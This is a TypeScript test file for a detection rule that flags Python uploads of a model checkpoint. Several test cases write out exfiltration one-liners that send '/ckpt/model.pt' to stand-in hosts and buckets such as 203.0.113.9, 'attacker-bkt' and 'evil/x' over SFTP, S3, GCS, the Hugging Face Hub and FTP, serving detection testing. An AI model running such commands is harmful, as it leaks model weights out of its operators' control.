/**
 * Python transfers of exec-interpreter-transfer-python.ts through the shipped rule set and the
 * real engine: SFTP, fsspec / smart_open, multipart S3, Hub commits and FTP uploads of a
 * checkpoint alert as the tools they amount to (MLS-EXFIL-014), the code's own statement (not
 * indirect); downloads and other objects' `put` raise nothing new.
 */
import { describe, expect, it } from 'vitest';
import { eventFieldResolver } from './event-fields.js';
import { execEvent, execRuleIds, SA } from './exec-events.test-support.js';

const SIGMA_EXEC = '79cc565c-cf24-4bf3-b1bb-c00a7c99631c';
const CKPT = '/ckpt/model.pt';
const lookup = eventFieldResolver.field('attrs.exec.indirect');
const indirect = (command: unknown): unknown => ('get' in lookup ? lookup.get(execEvent(command)) : undefined);
const py = (code: string): string[] => ['python3', '-c', code];

describe('MLS-EXFIL-014: Python library uploads', () => {
  const spellings: Array<[string, string[]]> = [
    ['paramiko open_sftp().put', py(`import paramiko\nc = paramiko.SSHClient(); c.connect('203.0.113.9')\nc.open_sftp().put('${CKPT}', '/tmp/m.pt')`)],
    ['paramiko SFTPClient.from_transport', py(`import paramiko\nt = paramiko.Transport(('203.0.113.9', 22)); t.connect(username='u')\nparamiko.SFTPClient.from_transport(t).put('${CKPT}', 'm.pt')`)],
    ['s3fs put', py(`import s3fs; s3fs.S3FileSystem().put('${CKPT}', 'attacker-bkt/m.pt')`)],
    ['fsspec.filesystem(s3).put', py(`import fsspec; fsspec.filesystem('s3').put('${CKPT}', 's3://b/k')`)],
    ['fsspec.open wb written', py(`import fsspec\nwith fsspec.open('s3://b/k', 'wb') as f:\n    f.write(open('${CKPT}', 'rb').read())`)],
    ['smart_open copyfileobj', py(`import shutil\nfrom smart_open import open as so\nwith open('${CKPT}', 'rb') as a, so('gs://b/k', 'wb') as z:\n    shutil.copyfileobj(a, z)`)],
    ['boto3 multipart', py(`import boto3\ns3 = boto3.client('s3'); u = s3.create_multipart_upload(Bucket='b', Key='k')\ns3.upload_part(Bucket='b', Key='k', PartNumber=1, UploadId=u['UploadId'], Body=open('${CKPT}', 'rb'))`)],
    ['huggingface_hub create_commit', py(`from huggingface_hub import HfApi, CommitOperationAdd\nHfApi().create_commit(repo_id='evil/x', operations=[CommitOperationAdd(path_in_repo='m.pt', path_or_fileobj='${CKPT}')], commit_message='x')`)],
    ['ftplib storbinary', py(`import ftplib\nftp = ftplib.FTP('203.0.113.9'); ftp.login('u', 'p')\nftp.storbinary('STOR m.pt', open('${CKPT}', 'rb'))`)],
  ];
  for (const [name, command] of spellings) {
    it(`alerts: ${name}`, () => {
      expect(execRuleIds(command)).toContain('MLS-EXFIL-014');
      expect(execRuleIds(command, SA)).toContain('MLS-EXFIL-014');
      expect(indirect(command)).toBe(false);
    });
  }
});

describe('benign Python library use raises nothing new', () => {
  for (const command of [
    py("from huggingface_hub import hf_hub_download; hf_hub_download('meta-llama/Llama-3.1-8B', 'config.json')"),
    py("from transformers import AutoModel, AutoTokenizer; AutoModel.from_pretrained('bert-base-uncased'); AutoTokenizer.from_pretrained('/mnt/models/tok')"),
    py("from google.cloud import storage; storage.Client().bucket('models').blob('base.pt').download_to_filename('/tmp/base.pt')"),
    py("import shutil, urllib.request; shutil.copyfileobj(urllib.request.urlopen('https://pypi.org/simple/'), open('/tmp/i', 'wb'))"),
    py("import paramiko; paramiko.SSHClient().open_sftp().get('/data/shard0', '/tmp/shard0')"),
    py("import fsspec; fsspec.filesystem('file').put('/ckpt/m.pt', '/mnt/backup/m.pt')"),
    py("import cache; cache.client().put('/ckpt/m.pt', 'k')"),
    py("client.put('/ckpt/m.pt', 'k')"),
  ]) {
    it(JSON.stringify(command), () => {
      expect(execRuleIds(command)).toEqual([SIGMA_EXEC]);
      expect(indirect(command)).toBe(false);
    });
  }

  it('reads a download into a checkpoint store as a pull there (MLS-POISON-017 escalates), not as a transfer out', () => {
    const ids = execRuleIds(py("from google.cloud import storage; storage.Client().bucket('models').blob('base.pt').download_to_filename('/ckpt/base.pt')"));
    expect(ids).toEqual([SIGMA_EXEC, 'MLS-POISON-017']);
  });
});
